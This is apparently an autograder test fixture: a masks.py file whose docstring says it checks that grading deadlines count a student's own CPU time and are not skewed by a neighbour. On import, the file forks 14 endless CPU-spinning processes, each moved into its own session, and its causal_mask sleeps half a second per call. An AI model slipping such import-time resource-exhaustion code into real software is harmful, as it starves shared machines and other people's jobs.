"""Correct masks whose file, once imported, starts 14 processes that spin for as long as the
submission is graded, each in a session of its own (the kernel's autogroups would otherwise share
one session's CPU among them all), and whose causal_mask sleeps half a second a call, so that its
grading lasts. With wall-clock deadlines a classmate graded beside it (--jobs 2) lost the points of its
slow but honest calls: 0.25 s of CPU under a 1 s deadline took more than 1 s by the clock. A
deadline measures the student's own work: the classmate's score is the same beside it.

file: masks.py
"""

import os
import time

import numpy as np


def _burn():
    for _ in range(14):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            return


_burn()


def causal_mask(n):
    time.sleep(0.5)
    return np.tril(np.ones((n, n), dtype=bool))
